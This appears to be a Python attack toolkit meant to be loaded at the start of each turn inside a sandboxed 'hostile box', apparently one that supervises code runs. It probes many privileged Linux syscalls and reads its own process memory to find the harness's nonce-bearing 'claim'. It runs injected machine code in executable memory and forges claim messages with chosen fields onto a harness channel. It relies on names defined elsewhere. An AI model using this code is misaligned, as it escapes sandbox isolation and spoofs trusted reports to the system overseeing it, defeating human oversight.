# The first turn of every hostile box: what attacks are written with.
import ctypes
import errno
import os
import signal
import socket
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR = dict(  # x86-64
    mprotect=10, shmget=29, pause=34, getpid=39, socketpair=53, clone=56, fork=57, vfork=58, semget=64, msgget=68,
    fcntl=72, flock=73, fchmod=91, chown=92, ptrace=101, syslog=103, setuid=105, setgid=106, setreuid=113,
    setresuid=117, capset=126, rt_sigqueueinfo=129, personality=135, ustat=136, sched_setparam=142,
    sched_setscheduler=144, mlock=149, mlockall=151, modify_ldt=154, pivot_root=155, prctl=157, arch_prctl=158,
    adjtimex=159, chroot=161, acct=163, settimeofday=164, mount=165, umount2=166, swapon=167, reboot=169,
    sethostname=170, iopl=172, ioperm=173, init_module=175, quotactl=179, setxattr=188, tkill=200, io_setup=206,
    lookup_dcookie=212, timer_create=222, clock_settime=227, mbind=237, mq_open=240, kexec_load=246, add_key=248,
    request_key=249, keyctl=250, ioprio_set=251, inotify_init=253, splice=275, tee=276, vmsplice=278, move_pages=279,
    signalfd=282, timerfd_create=283, fallocate=285, inotify_init1=294, preadv=295, rt_tgsigqueueinfo=297,
    perf_event_open=298, fanotify_init=300, name_to_handle_at=303, open_by_handle_at=304, setns=308, getcpu=309,
    process_vm_readv=310, process_vm_writev=311, kcmp=312, finit_module=313, sched_setattr=314, seccomp=317,
    memfd_create=319, kexec_file_load=320, bpf=321, execveat=322, userfaultfd=323, preadv2=327, pkey_alloc=330,
    io_uring_setup=425, pidfd_send_signal=424, open_tree=428, move_mount=429, fsopen=430, fsmount=432, pidfd_open=434,
    clone3=435, openat2=437, pidfd_getfd=438, process_madvise=440, mount_setattr=442, landlock_restrict_self=446,
    memfd_secret=447, process_mrelease=448, unshare=272, cachestat=451, map_shadow_stack=453)


def errno_of(f, *a):
    try:
        r = f(*a)
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno)) if e.errno else type(e).__name__
    except (MemoryError, ValueError, RuntimeError) as e:
        return type(e).__name__
    return f'done {r}'


def call(nr, *a):
    r = libc.syscall(NR.get(nr, nr), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    if r < 0:
        raise OSError(ctypes.get_errno(), '')
    return r


def readable(address, n):
    """Bytes of this process, None where nothing is mapped: write() fails instead of crashing."""
    a, b = os.pipe()
    got = libc.write(b, ctypes.c_void_p(address), ctypes.c_size_t(n))
    data = os.read(a, n) if got == n else None
    os.close(a)
    os.close(b)
    return data


def find_claim():
    """The turn's own half-filled claim with its nonce, searched in the data of the program around `emit`."""
    here = ctypes.c_ulong.from_address(id(show.__globals__['emit']) + 16).value & ~4095
    op = OP_CLAIM.to_bytes(4, 'little')
    for step in range(2048):
        for page in {here + 4096 * step, here - 4096 * step}:
            data = readable(page, 4096) or b''
            at = data.find(op)
            while at >= 0:
                whole = readable(page + at, CLAIM_SIZE) or b''
                head = at % 8 == 0 and 0 < int.from_bytes(whole[8:12], 'little') < 100 and any(whole[16:24])
                if head and not any(whole[4:8] + whole[12:16] + whole[24:48]):
                    return whole
                at = data.find(op, at + 1)
    raise LookupError('no claim found')


kept = []


def count_natively():
    """A thread that counts without the interpreter's lock, which a parked turn holds: (counter, steps per second)."""
    import mmap
    m = mmap.mmap(-1, 4096)
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(bytes.fromhex('48ff07ebfb'))  # inc qword [rdi], again
    kept.append(code)
    f = ctypes.CFUNCTYPE(None, ctypes.c_void_p)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    count = ctypes.c_long.from_buffer(m)
    threading.Thread(target=f, args=(ctypes.addressof(count),), daemon=True).start()
    t = time.monotonic()
    time.sleep(0.1)
    return count, count.value / (time.monotonic() - t)


CHANNEL = 3 if TIER == 2 else 4  # of the turn after this one, and of those after failed ones


def forge(claim, pictures, n_image=None, kind=0, message=0):
    """Sends the claim with these pictures [(w, h, offset)]; the turn ends here."""
    import struct
    c = bytearray(claim)
    c[24:28] = struct.pack('<i', kind)
    c[CLAIM_N_IMAGE:CLAIM_N_IMAGE + 4] = struct.pack('<i', len(pictures) if n_image is None else n_image)
    c[CLAIM_MESSAGE_LEN:CLAIM_MESSAGE_LEN + 4] = struct.pack('<i', message)
    for i, p in enumerate(pictures):
        c[CLAIM_IMAGES + 16 * i:CLAIM_IMAGES + 16 * i + 16] = struct.pack('<iiq', *p)
    os.write(CHANNEL, c)
    time.sleep(9)


alive = 1
